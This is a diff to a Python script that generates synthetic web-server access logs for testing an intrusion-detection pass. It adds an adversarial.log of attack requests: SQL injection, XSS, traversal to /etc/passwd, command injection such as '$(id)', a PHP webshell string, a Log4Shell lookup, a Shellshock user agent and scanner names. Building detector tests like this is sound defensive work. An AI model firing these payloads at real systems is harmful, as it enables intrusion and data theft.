@@ -6,7 +6,9 @@ style of a Chinese government portal (gov CMS paths, search engines'
 spiders, long Chinese query strings percent-encoded in UTF-8 and in GBK,
 WeChat and domestic browsers) with attack requests mixed in, and a label
 file: one "LINE<TAB>KIND<TAB>SOURCE" row per line, KIND "benign" or one of
-sqli xss traversal rfi rce injection scanner webshell_access bruteforce.
+sqli xss traversal rfi rce injection scanner webshell_access bruteforce;
+and adversarial.log, unlabelled odd requests for the first pass's
+zero-miss check.
 
   gen.py --out DIR [--seed 1] [--benign 5600] [--attacks 1200]
 
@@ -274,6 +276,52 @@ class Gen:
                 n -= 1
 
 
+# Payloads outside the generator's families and encodings, header-borne
+# attacks, odd methods, protocols and paths: the first pass must send on
+# every one the CRS flags (score.py runs them with --mode compare).
+ADV_PAYLOADS = [
+    "1 union select 1,2", "1 AND 1=1", "1 or 1=1", "1' or ''='", "admin' #", "1;drop table users",
+    "1 waitfor delay '0:0:5'", "sleep(5)", "1)) or ((1=1", "' HAVING 1=1--", "<script>",
+    "<img src=x onerror=1>", "javascript:alert(1)", "<svg onload=alert(1)>", "\"onfocus=alert(1) autofocus=\"",
+    "<a href=jav&#x61;script:alert(1)>", "&lt;script&gt;", "<marquee onstart=alert(1)>", "../../etc/passwd",
+    "..%c0%af..%c0%afetc/passwd", "/etc/passwd%00.jpg", "....\\\\....\\\\windows\\\\win.ini", "file:///etc/passwd",
+    "php://input", "zip://shell.jpg#x.php", "http://8.8.8.8/x.txt?", "https://1.1.1.1/a?", "ftp://10.0.0.1/x?",
+    ";id", "|whoami", "`id`", "$(id)", "${IFS}cat${IFS}/etc/passwd", "; ping -c 3 1.1.1.1", "&& type C:\\\\boot.ini",
+    "system('id')", "eval($_GET[x])", "<?php system($_GET['c']); ?>", "${jndi:ldap://x/a}", "#{7*7}",
+    "__proto__[x]=1", "constructor.prototype", "O:4:\"Test\":0:{}", "java.lang.ProcessBuilder",
+    "Runtime.getRuntime()", "%00", "%0d%0aSet-Cookie:x=1", "x%0d%0aLocation: http://evil", "\\u003cscript\\u003e",
+    "%u003cscript%u003e", "%253Cscript%253E", "1e309", "2147483648", "\"; ls;\"", "';alert(1)//",
+    "expression(alert(1))", "1' AND extractvalue(rand(),concat(0x3a,version()))-- ",
+    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", "@@version", "char(65)", "0x414243",
+    "select*from users", "1/**/or/**/1=1", "1%09or%091=1", "ORDER BY 3--",
+]
+ADV_UAS = ["Mozilla/5.0", "sqlmap/1.0", "' or 1=1--", "<script>alert(1)</script>", "() { :;}; /bin/bash -c 'id'",
+           "${jndi:ldap://x/a}", "Nikto", "python-requests/2.28", "curl/7.88", "Go-http-client/1.1", "masscan",
+           "WPScan", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"]
+
+
+def adversarial():
+    out = []
+    encs = (lambda s: urllib.parse.quote(s, safe=""), lambda s: s.replace(" ", "+"),
+            lambda s: urllib.parse.quote(urllib.parse.quote(s, safe=""), safe=""))
+    for i, p in enumerate(ADV_PAYLOADS):
+        for enc in encs:
+            t = ("/index.php?q=" + enc(p)).replace(" ", "%20").replace('"', "%22")
+            out.append(f'198.51.100.{i % 250} - - [01/Jan/2026:00:00:{i % 60:02d} +0000] "GET {t} HTTP/1.1" 200 10 "-" "Mozilla/5.0"')
+    for i, u in enumerate(ADV_UAS):
+        u = u.replace('"', "\\x22")
+        out.append(f'203.0.113.{i} - - [01/Jan/2026:00:01:00 +0000] "GET /index.html HTTP/1.1" 200 10 "-" "{u}"')
+        out.append(f'203.0.113.{i} - - [01/Jan/2026:00:01:00 +0000] "GET /index.html HTTP/1.1" 200 10 "{u}" "Mozilla/5.0"')
+    for m in ["PUT", "DELETE", "TRACE", "PROPFIND", "CONNECT", "get", "OPTIONS"]:
+        out.append(f'192.0.2.1 - - [01/Jan/2026:00:02:00 +0000] "{m} /index.html HTTP/1.1" 405 10 "-" "Mozilla/5.0"')
+    for pr in ["HTTP/0.9", "HTTP/3.0", "FOO/1.1", "HTTP/1.1"]:
+        out.append(f'192.0.2.2 - - [01/Jan/2026:00:02:00 +0000] "GET /a.bak {pr}" 400 10 "-" "Mozilla/5.0"')
+    for pth in ["/web.config", "/.git/HEAD", "/backup.sql", "/index.php~", "/a.php.old", "/x.asa",
+                "/%2e%2e/%2e%2e/etc/passwd", "/a%zz", "/a%u0041", "/a b", "/\\x00"]:
+        out.append(f'192.0.2.3 - - [01/Jan/2026:00:03:00 +0000] "GET {pth} HTTP/1.1" 404 10 "-" "Mozilla/5.0"')
+    return out
+
+
 def main():
     ap = argparse.ArgumentParser()
     ap.add_argument("--out", required=True)
@@ -297,6 +345,8 @@ def main():
     with open(os.path.join(a.out, "labels.tsv"), "w", encoding="utf-8") as f:
         for i, (_, k, ip) in enumerate(g.lines, 1):
             f.write(f"{i}\t{k}\t{ip}\n")
+    with open(os.path.join(a.out, "adversarial.log"), "w", encoding="utf-8") as f:
+        f.write("\n".join(adversarial()) + "\n")
 
 
 if __name__ == "__main__":
